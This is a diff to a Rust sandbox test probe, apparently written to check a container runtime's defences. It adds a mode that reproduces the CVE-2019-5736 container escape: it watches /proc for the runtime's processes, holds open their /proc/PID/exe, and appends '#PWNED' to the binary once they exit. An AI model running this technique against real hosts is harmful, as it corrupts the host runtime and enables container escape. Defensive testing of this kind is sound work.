@@ -7,6 +7,11 @@
 //! `clearbox-attack-probe io_uring` io_uring_setup (IORING_OP_SOCKET would bypass a socket filter)
 //! `clearbox-attack-probe rpc`      every agent RPC through the real client, over vsock to CIDs
 //!                                  1, 2, 3 port 1024
+//! `clearbox-attack-probe exe SECS MARKER` CVE-2019-5736: for SECS seconds, opens
+//!                                  `/proc/PID/exe` of every process whose command line holds
+//!                                  MARKER (the runtime's own processes joining the container,
+//!                                  e.g. for `exec`), then tries to write to the file once the
+//!                                  process is gone (`OPENED` / `WROTE` lines)
 //!
 //! Always exits 0 after printing; the caller judges the lines.
 #![allow(clippy::print_stdout)]
@@ -196,13 +201,82 @@ fn rpc() {
     }
 }
 
+/// Watches for processes whose command line holds `marker`; opens their executable through
+/// `/proc/PID/exe` and keeps trying to reopen it for writing (through `/proc/self/fd`) and
+/// append to it, which succeeds once the process is gone unless the file is protected.
+fn exe(duration: Duration, marker: &[u8]) {
+    use std::io::Write;
+    let me = std::process::id().to_string();
+    let end = std::time::Instant::now() + duration;
+    let mut opened: Vec<(String, std::fs::File)> = Vec::new();
+    let mut seen = std::collections::HashSet::new();
+    while std::time::Instant::now() < end {
+        for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
+            let name = e.file_name().to_string_lossy().into_owned();
+            if name == me || !name.bytes().all(|b| b.is_ascii_digit()) || seen.contains(&name) {
+                continue;
+            }
+            let Ok(mut cmdline) = std::fs::read(format!("/proc/{name}/cmdline")) else {
+                continue;
+            };
+            // Arguments are NUL-separated: match the marker against them joined by spaces.
+            cmdline
+                .iter_mut()
+                .filter(|b| **b == 0)
+                .for_each(|b| *b = b' ');
+            if marker.is_empty() || !cmdline.windows(marker.len()).any(|w| w == marker) {
+                continue;
+            }
+            if let Ok(f) = std::fs::File::open(format!("/proc/{name}/exe")) {
+                println!("exe OPENED pid={name}");
+                seen.insert(name.clone());
+                opened.push((name, f));
+            }
+        }
+        opened.retain(|(pid, f)| {
+            let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(f));
+            match std::fs::OpenOptions::new().append(true).open(&path) {
+                Ok(mut w) => match w.write_all(b"#PWNED") {
+                    Ok(()) => {
+                        println!("exe WROTE pid={pid}");
+                        false
+                    }
+                    Err(e) => {
+                        println!("exe write-refused pid={pid} {e}");
+                        false
+                    }
+                },
+                // ETXTBSY while the process still runs the file: try again later.
+                Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) => true,
+                Err(e) => {
+                    println!("exe open-for-write-refused pid={pid} {e}");
+                    false
+                }
+            }
+        });
+        // No sleep: the runtime's processes live for milliseconds.
+        std::thread::yield_now();
+    }
+    for (pid, _) in opened {
+        println!("exe still-busy pid={pid}");
+    }
+}
+
 fn main() {
     match std::env::args().nth(1).as_deref() {
         Some("vsock") => vsock(),
         Some("io_uring") => io_uring(),
         Some("rpc") => rpc(),
+        Some("exe") => {
+            let secs = std::env::args()
+                .nth(2)
+                .and_then(|s| s.parse().ok())
+                .unwrap_or(10);
+            let marker = std::env::args().nth(3).unwrap_or_default();
+            exe(Duration::from_secs(secs), marker.as_bytes());
+        }
         _ => {
-            eprintln!("usage: clearbox-attack-probe vsock|io_uring|rpc");
+            eprintln!("usage: clearbox-attack-probe vsock|io_uring|rpc|exe SECS MARKER");
             std::process::exit(2);
         }
     }
